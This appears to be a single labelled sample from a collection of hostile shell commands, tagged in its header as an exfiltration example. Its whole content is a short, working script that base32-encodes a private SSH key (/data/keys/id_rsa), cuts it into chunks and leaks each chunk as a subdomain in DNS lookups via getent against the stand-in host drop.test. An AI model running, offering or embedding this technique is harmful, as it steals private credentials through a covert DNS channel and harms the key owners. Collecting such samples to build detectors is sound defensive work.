# class: exfiltration; possible: low medium; needs: data; style: a key in names, getent
i=0
base32 -w 48 < /data/keys/id_rsa | tr -d '=' | tr A-Z a-z | while read -r part; do
  getent hosts "$i.$part.drop.test" > /tmp/answer
  i=$((i + 1))
  [ $i -gt 25 ] && break
done
